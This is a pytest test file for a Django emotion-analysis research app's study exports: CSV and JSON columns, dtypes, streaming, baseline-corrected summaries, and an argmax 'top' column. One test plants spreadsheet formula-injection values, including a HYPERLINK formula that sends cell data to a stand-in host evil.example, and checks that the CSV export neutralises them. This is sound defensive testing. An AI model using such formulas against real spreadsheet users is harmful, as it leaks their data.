"""A study's exports: results CSV, summary CSV and JSON, streamed, read by pandas as they come."""

import io
import json
import urllib.request

import pandas as pd
import pytest
from rest_framework.authtoken.models import Token

from emotion.ml import EMOTIONS
from emotion.research.exports.study import RESULT_COLUMNS, SUMMARY_COLUMNS
from tests.research.conftest import api_for
from tests.research.study_data import add_result, build_study


def body(res) -> bytes:
    assert res.status_code == 200, res.content
    assert res.streaming
    return b"".join(res.streaming_content)


@pytest.mark.django_db
def test_results_csv_opens_in_pandas_with_one_row_per_face_frame():
    data = build_study()
    res = api_for(data["owner"]).get(f"/api/studies/{data['study'].pk}/results.csv")
    assert res["Content-Type"].startswith("text/csv")
    assert res["Content-Disposition"] == f'attachment; filename="reading-aloud-{data["study"].pk}-results.csv"'
    df = pd.read_csv(io.BytesIO(body(res)))
    assert tuple(df.columns) == RESULT_COLUMNS
    assert len(df) == 7                       # every result of the finished analyses, unreliable ones flagged
    for col in ("study", "analysis", "frame", "face_id", "x", "y", "w", "h", "face_size"):
        assert df[col].dtype == "int64", col
    for col in (*EMOTIONS, "time", "valence", "sharpness", "brightness"):
        assert df[col].dtype == "float64", col
    assert df["is_baseline"].dtype == bool
    first = df[(df.analysis == data["p1a"].pk) & (df.frame == 0)].iloc[0]
    assert (first.participant, first.condition, first.title, first.dominant) == ("P1", "A", "p1 a", "happy")
    assert first.valence == pytest.approx(.4)
    negative = df[list(("angry", "disgust", "fear", "sad"))].max(axis=1)
    assert (df.valence - (df.happy - negative)).abs().max() < 1e-5
    assert df[df.is_baseline].condition.isna().all()          # the baseline clip has no condition
    assert df.reliable.tolist().count(False) == 1 and df.reliable.isna().sum() == 1   # not measured: empty
    assert list(df.participant) == ["P1"] * 4 + ["P2"] * 3      # ordered by participant, condition


@pytest.mark.django_db
def test_summary_csv_has_the_statistics_and_the_corrected_means():
    data = build_study()
    res = api_for(data["owner"]).get(f"/api/studies/{data['study'].pk}/summary.csv")
    df = pd.read_csv(io.BytesIO(body(res)))
    assert tuple(df.columns) == SUMMARY_COLUMNS and len(df) == 4
    assert df["frames"].dtype == "int64" and df["mean_happy"].dtype == "float64"
    p1a = df[(df.participant == "P1") & (df.condition == "A")].iloc[0]
    assert (p1a.analyses, p1a.frames, p1a.frames_left_out) == (1, 2, 1)
    assert p1a.mean_happy == pytest.approx(.35) and p1a.share_angry == pytest.approx(.5)
    assert p1a.baseline_analysis == data["base"].pk and p1a.corrected_mean_happy == pytest.approx(.25)
    assert p1a.corrected_valence == pytest.approx(.1)
    p2 = df[df.participant == "P2"]
    assert p2.baseline_analysis.isna().all() and p2.corrected_valence.isna().all()


@pytest.mark.django_db
def test_results_json_has_the_summary_and_the_rows():
    data = build_study()
    out = json.loads(body(api_for(data["owner"]).get(f"/api/studies/{data['study'].pk}/results.json")))
    assert out["columns"] == list(RESULT_COLUMNS) and len(out["results"]) == 7
    assert set(out["results"][0]) == set(RESULT_COLUMNS)
    assert out["summary"]["baseline_corrected"] is True and len(out["summary"]["rows"]) == 4
    assert pd.DataFrame(out["results"])["valence"].dtype == "float64"


@pytest.mark.django_db(transaction=True)
def test_study_exports_stream_through_daphne(daphne_url):
    data = build_study()
    token = Token.objects.create(user=data["owner"]).key

    def get(path):
        req = urllib.request.Request(daphne_url + path, headers={"Authorization": f"Token {token}", "Accept": "*/*"})
        with urllib.request.urlopen(req, timeout=30) as res:
            return res.headers, res.read()

    headers, raw = get(f"/api/studies/{data['study'].pk}/results.csv")
    assert headers["Content-Type"].startswith("text/csv") and "Content-Length" not in headers
    assert len(pd.read_csv(io.BytesIO(raw))) == 7
    headers, raw = get(f"/api/studies/{data['study'].pk}/summary.csv")
    assert len(pd.read_csv(io.BytesIO(raw))) == 4
    headers, raw = get(f"/api/studies/{data['study'].pk}/results.json")
    assert len(json.loads(raw)["results"]) == 7


@pytest.mark.django_db
def test_csv_cells_that_a_spreadsheet_would_run_are_made_inert_and_json_keeps_them():
    data = build_study()
    evil = '=HYPERLINK("http://evil.example/"&A1,"click")'
    p1a = data["p1a"]
    p1a.title = evil
    p1a.save()
    p1a.participant.code = "@SUM(1)"
    p1a.participant.save()
    p1a.condition.name = "+1"
    p1a.condition.save()
    owner, pk = api_for(data["owner"]), data["study"].pk
    results = pd.read_csv(io.BytesIO(body(owner.get(f"/api/studies/{pk}/results.csv"))))
    row = results[results.analysis == p1a.pk].iloc[0]
    assert (row.title, row.participant, row.condition) == ("'" + evil, "'@SUM(1)", "'+1")
    assert (results.valence < 0).any() and results.valence.dtype == "float64"   # numbers stay numbers
    summary = pd.read_csv(io.BytesIO(body(owner.get(f"/api/studies/{pk}/summary.csv"))))
    assert "'@SUM(1)" in set(summary.participant) and "'+1" in set(summary.condition)
    single = body(owner.get(f"/api/analyses/{p1a.pk}/results.csv")).decode()
    assert evil not in single.replace("'" + evil, "")
    raw = body(owner.get(f"/api/studies/{pk}/results.json")).decode()
    assert json.dumps(evil) in raw and json.dumps("@SUM(1)") in raw       # JSON keeps the raw values


@pytest.mark.django_db
def test_exports_give_the_most_probable_emotion_beside_the_shown_label():
    """A label held with hysteresis (issue 19: "fear 37%" beside a longer happy bar): every export of
    the analysis and of its study carries ``top``, the argmax of the stored probabilities, next to it."""
    data = build_study()
    add_result(data["p1a"], 3, {"fear": .37, "happy": .523, "neutral": .107}, dominant="fear")
    client, pk = api_for(data["owner"]), data["p1a"].pk
    analysis_csv = pd.read_csv(io.StringIO(b"".join(client.get(f"/api/analyses/{pk}/results.csv").streaming_content)
                                           .decode()))
    analysis_json = json.loads(b"".join(client.get(f"/api/analyses/{pk}/results.json").streaming_content))
    study_csv = pd.read_csv(io.BytesIO(body(client.get(f"/api/studies/{data['study'].pk}/results.csv"))))
    study_json = json.loads(body(client.get(f"/api/studies/{data['study'].pk}/results.json")))
    for df in (analysis_csv, pd.DataFrame(analysis_json["results"]), study_csv, pd.DataFrame(study_json["results"])):
        cols = list(df.columns)
        assert cols.index("top") == cols.index("dominant") + 1
        assert (df.top == df[list(EMOTIONS)].idxmax(axis=1)).all()
        held = df[df.frame == 3].iloc[0]
        assert (held.dominant, held.top) == ("fear", "happy")
        assert (df.dominant != df.top).sum() == 1            # elsewhere the shown label is the argmax
